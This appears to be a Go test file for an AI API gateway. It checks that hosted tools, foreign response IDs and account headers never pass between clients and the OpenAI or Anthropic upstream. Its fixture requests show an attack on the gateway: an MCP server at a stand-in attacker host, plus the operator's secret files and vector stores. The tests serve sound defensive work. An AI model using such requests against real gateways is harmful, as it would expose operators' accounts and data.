package gateway_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/maskgate/maskgate/backends"
	"github.com/maskgate/maskgate/backends/anthropic"
	"github.com/maskgate/maskgate/backends/openai"
	"github.com/maskgate/maskgate/backends/openaicompat"
	"github.com/maskgate/maskgate/gateway"
)

// leakyUpstream is an OpenAI or Anthropic API that records each request and answers
// with answer, and with headers about the operator's account that no client may see.
type leakyUpstream struct {
	*httptest.Server
	mu     sync.Mutex
	bodies []string
	header []http.Header
}

func newLeakyUpstream(t *testing.T, answer string) *leakyUpstream {
	t.Helper()
	u := &leakyUpstream{}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.bodies = append(u.bodies, string(b))
		u.header = append(u.header, r.Header.Clone())
		u.mu.Unlock()
		h := w.Header()
		for k, v := range leakedHeaders {
			h.Set(k, v)
		}
		h.Set("Content-Type", "application/json")
		h.Set("X-Request-Id", "req_upstream_1")
		h.Set("Request-Id", "req_anthropic_1")
		_, _ = io.WriteString(w, answer)
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *leakyUpstream) got() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.bodies...)
}

// leakedHeaders are what OpenAI and Anthropic say about the account in their answers.
var leakedHeaders = map[string]string{
	"Openai-Organization":                    "org-operator",
	"Openai-Project":                         "proj_operator",
	"Anthropic-Organization-Id":              "org-ant-operator",
	"Set-Cookie":                             "__cf_bm=operator; path=/",
	"X-Ratelimit-Remaining-Requests":         "4999",
	"X-Ratelimit-Limit-Tokens":               "2000000",
	"Anthropic-Ratelimit-Requests-Remaining": "49",
	"Anthropic-Ratelimit-Tokens-Limit":       "80000",
}

const (
	passResponse = `{"id":"resp_up_1","object":"response","status":"completed","output":[],"usage":{"input_tokens":3,"output_tokens":1,"total_tokens":4}}`
	passMessage  = `{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"text","text":"ok"}],"stop_reason":"end_turn","usage":{"input_tokens":3,"output_tokens":1}}`

	// A Responses request naming hosted tools: an MCP server of the attacker's, the
	// operator's vector stores, a sandbox, a hosted tool's earlier run, a file of the
	// operator's account; and a function tool the client runs.
	hostedResponsesReq = `{"model":"gpt-x","tools":[` +
		`{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp","require_approval":"never"},` +
		`{"type":"function","name":"get_weather","parameters":{"type":"object","properties":{}}},` +
		`{"type":"file_search","vector_store_ids":["vs_operator_secret"]},` +
		`{"type":"code_interpreter","container":{"type":"auto"}}],` +
		`"input":[{"type":"mcp_call","id":"mcp_1","server_label":"x","name":"steal","arguments":"{}","output":"attacker.example said"},` +
		`{"role":"user","content":[{"type":"input_text","text":"read it"},{"type":"input_file","file_id":"file-operator-secret"}]}]}`

	// The same for Messages: server tools, the MCP connector and a file of the
	// operator's account, in a message and in a tool result.
	hostedMessagesReq = `{"model":"claude-x","max_tokens":9,` +
		`"tools":[{"type":"web_fetch_20250910","name":"web_fetch"},{"name":"get_weather","input_schema":{"type":"object"}},{"type":"code_execution_20250825","name":"code_execution"}],` +
		`"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}],` +
		`"messages":[{"role":"user","content":[{"type":"text","text":"read it"},{"type":"document","source":{"type":"file","file_id":"file_operator_secret"}}]},` +
		`{"role":"assistant","content":[{"type":"server_tool_use","id":"srvtoolu_1","name":"web_fetch","input":{"url":"https://attacker.example/x"}},{"type":"web_fetch_tool_result","tool_use_id":"srvtoolu_1","content":{"type":"web_fetch_result","url":"https://attacker.example/x"}},{"type":"tool_use","id":"toolu_1","name":"get_weather","input":{}}]},` +
		`{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"document","source":{"type":"file","file_id":"file_operator_secret2"}}]}]}]}`
)

func openaiPass(t *testing.T, url string) backends.Backend {
	be, err := openai.New(openai.Options{Options: openaicompat.Options{Name: "native", BaseURL: url + "/v1", APIKey: "sk-operator"}})
	if err != nil {
		t.Fatal(err)
	}
	return be
}

func anthropicPass(t *testing.T, url string) backends.Backend {
	be, err := anthropic.New(anthropic.Options{Name: "native", BaseURL: url, APIKey: "sk-ant-operator"})
	if err != nil {
		t.Fatal(err)
	}
	return be
}

// The attack of issue 39: hosted tools in a request passed to OpenAI or Anthropic as it
// is reached the operator's account. Under hosted_tools: drop (the default) none of
// them reaches the upstream's body, the client's own tool and messages do, byte for
// byte, and the answer names what was left out; under refuse the request is a 400 and
// nothing reaches the upstream.
func TestPass_HostedToolsNeverReachTheUpstream(t *testing.T) {
	secrets := []string{"attacker.example", "vs_operator_secret", "file-operator-secret", "file_operator_secret",
		`"mcp"`, "file_search", "code_interpreter", "mcp_servers", "web_fetch", "code_execution", "server_tool_use"}
	for _, c := range []struct {
		name, path, req, answer, keep, dropped string
		backend                                func(*testing.T, string) backends.Backend
	}{
		{"responses", "/v1/responses", hostedResponsesReq, passResponse,
			`{"type":"function","name":"get_weather","parameters":{"type":"object","properties":{}}}`,
			"mcp,file_search,code_interpreter,mcp_call", openaiPass},
		{"messages", "/v1/messages", hostedMessagesReq, passMessage,
			`{"type":"tool_use","id":"toolu_1","name":"get_weather","input":{}}`,
			"web_fetch_20250910,code_execution_20250825,mcp_servers,server_tool_use,web_fetch_tool_result", anthropicPass},
	} {
		t.Run(c.name+"/drop", func(t *testing.T) {
			up := newLeakyUpstream(t, c.answer)
			gw := nativeGateway(t, c.backend(t, up.URL), nil)
			status, h, out := call(t, gw, "POST", c.path, aliceKey, c.req)
			if status != 200 || out != c.answer {
				t.Fatalf("%d %s", status, out)
			}
			got := up.got()
			if len(got) != 1 {
				t.Fatalf("the upstream got %d requests", len(got))
			}
			for _, s := range secrets {
				if strings.Contains(got[0], s) {
					t.Errorf("%q reached the upstream: %s", s, got[0])
				}
			}
			if !strings.Contains(got[0], c.keep) || !strings.Contains(got[0], "read it") {
				t.Errorf("the client's own tool or text did not reach the upstream as sent: %s", got[0])
			}
			if h.Get(gateway.HeaderDroppedTools) != c.dropped {
				t.Errorf("%s: %q, want %q", gateway.HeaderDroppedTools, h.Get(gateway.HeaderDroppedTools), c.dropped)
			}
			if w := h.Values(gateway.HeaderWarning); len(w) == 0 || !strings.Contains(strings.Join(w, " "), "file_id") {
				t.Errorf("no warning for the file left out: %v", w)
			}
		})
		t.Run(c.name+"/refuse", func(t *testing.T) {
			up := newLeakyUpstream(t, c.answer)
			gw := nativeGateway(t, c.backend(t, up.URL), func(o *gateway.Options) { o.HostedTools = "refuse" })
			status, _, out := call(t, gw, "POST", c.path, aliceKey, c.req)
			if status != 400 || !strings.Contains(out, "invalid_request_error") {
				t.Errorf("%d %s, want a 400", status, out)
			}
			if n := len(up.got()); n != 0 {
				t.Errorf("the upstream got %d requests", n)
			}
		})
	}
	// Under refuse, a file of the upstream's account alone (no hosted tool the
	// translation refuses) is refused too.
	up := newLeakyUpstream(t, passResponse)
	gw := nativeGateway(t, openaiPass(t, up.URL), func(o *gateway.Options) { o.HostedTools = "refuse" })
	status, _, out := call(t, gw, "POST", "/v1/responses", aliceKey,
		`{"model":"gpt-x","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-operator-secret"}]}]}`)
	if status != 400 || !strings.Contains(out, `"param":"input[0].content[0].file_id"`) || len(up.got()) != 0 {
		t.Errorf("a file by id under refuse: %d %s, upstream got %d", status, out, len(up.got()))
	}
}

// A response an upstream minted is its caller's: another key continuing it, or anyone
// continuing an id the gateway never passed, is a 400 previous_response_not_found in
// OpenAI's envelope (as for the gateway's own stored responses), and the upstream never
// sees the id.
func TestPass_ForeignPreviousResponseNeverReachesTheUpstream(t *testing.T) {
	up := newLeakyUpstream(t, passResponse)
	gw := nativeGateway(t, openaiPass(t, up.URL), nil)
	if status, _, out := call(t, gw, "POST", "/v1/responses", aliceKey, `{"model":"gpt-x","input":"my secret plan"}`); status != 200 {
		t.Fatalf("alice: %d %s", status, out)
	}
	for _, c := range []struct{ key, id string }{{bobKey, "resp_up_1"}, {aliceKey, "resp_never_passed"}, {bobKey, "resp_never_passed"}} {
		status, _, out := call(t, gw, "POST", "/v1/responses", c.key, `{"model":"gpt-x","input":"go on","previous_response_id":"`+c.id+`"}`)
		typ, code, _ := envelopeOf(t, []byte(out))
		if status != 400 || typ != "invalid_request_error" || code != "previous_response_not_found" {
			t.Errorf("continuing %s: %d %s", c.id, status, out)
		}
	}
	if got := up.got(); len(got) != 1 {
		t.Errorf("the upstream got %d requests; the refused continuations must not reach it: %v", len(got), got)
	}
	status, _, out := call(t, gw, "POST", "/v1/responses", aliceKey, `{"model":"gpt-x","input":"go on","previous_response_id":"resp_up_1"}`)
	if got := up.got(); status != 200 || len(got) != 2 || !strings.Contains(got[1], `"previous_response_id":"resp_up_1"`) {
		t.Errorf("alice continuing her own: %d %s; upstream got %v", status, out, got)
	}
}

// Beta flags pass by list: an allowed one reaches the upstream, another is left out
// with a warning (or refused under hosted_tools: refuse); the upstream's headers about
// the operator's account never reach the client, its request ids do.
func TestPass_BetaFlagsAndResponseHeadersByList(t *testing.T) {
	for _, c := range []struct {
		name, path, req, header, sent, passed, left string
		backend                                     func(*testing.T, string) backends.Backend
	}{
		{"responses", "/v1/responses", `{"model":"gpt-x","input":"hi"}`, "OpenAI-Beta",
			"responses=experimental, assistants=v2", "responses=experimental", "assistants=v2", openaiPass},
		{"messages", "/v1/messages", `{"model":"claude-x","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}`, "Anthropic-Beta",
			"files-api-2025-04-14,prompt-caching-2024-07-31,mcp-client-2025-11-20", "prompt-caching-2024-07-31", "files-api-2025-04-14", anthropicPass},
	} {
		t.Run(c.name, func(t *testing.T) {
			up := newLeakyUpstream(t, passResponse)
			gw := nativeGateway(t, c.backend(t, up.URL), nil)
			status, h, out := call(t, gw, "POST", c.path, aliceKey, c.req, c.header, c.sent)
			if status != 200 {
				t.Fatalf("%d %s", status, out)
			}
			if got := up.header[0].Values(c.header); len(got) != 1 || got[0] != c.passed {
				t.Errorf("the upstream got %s %q, want %q", c.header, got, c.passed)
			}
			if w := strings.Join(h.Values(gateway.HeaderWarning), " "); !strings.Contains(w, c.left) {
				t.Errorf("warnings %q do not name %s", w, c.left)
			}
			for k := range leakedHeaders {
				if v := h.Get(k); v != "" {
					t.Errorf("the client got %s: %s", k, v)
				}
			}
			if h.Get(gateway.HeaderUpstreamRequestID) != "req_upstream_1" || h.Get("Request-Id") != "req_anthropic_1" || h.Get("Content-Type") != "application/json" {
				t.Errorf("request ids or content type lost: %v", h)
			}

			refusing := nativeGateway(t, c.backend(t, up.URL), func(o *gateway.Options) { o.HostedTools = "refuse" })
			status, _, out = call(t, refusing, "POST", c.path, aliceKey, c.req, c.header, c.sent)
			if status != 400 || !strings.Contains(out, "doors.beta_flags") || len(up.got()) != 1 {
				t.Errorf("under refuse: %d %s; upstream got %d", status, out, len(up.got()))
			}
		})
	}
}

// A streamed pass records its response's id too (read from response.created): its
// caller may continue it, another key may not.
func TestPass_StreamedResponseIsTheCallersOwn(t *testing.T) {
	up := newNativeUpstream(t, nativeResponsesResp, nativeResponsesStream)
	gw := nativeGateway(t, openaiPass(t, up.URL), nil)
	if status, _, out := call(t, gw, "POST", "/v1/responses", carolKey, `{"model":"gpt-x","input":"hi","stream":true}`); status != 200 || out != nativeResponsesStream {
		t.Fatalf("carol's stream: %d %s", status, out)
	}
	status, _, out := call(t, gw, "POST", "/v1/responses", bobKey, `{"model":"gpt-x","input":"go on","previous_response_id":"resp_2"}`)
	if status != 400 || !strings.Contains(out, "previous_response_not_found") {
		t.Errorf("bob continuing carol's streamed response: %d %s", status, out)
	}
	if status, _, out := call(t, gw, "POST", "/v1/responses", carolKey, `{"model":"gpt-x","input":"go on","previous_response_id":"resp_2"}`); status != 200 {
		t.Errorf("carol continuing her own: %d %s", status, out)
	}
	if len(up.bodies) != 2 {
		t.Errorf("the upstream got %d requests, want carol's 2", len(up.bodies))
	}
}
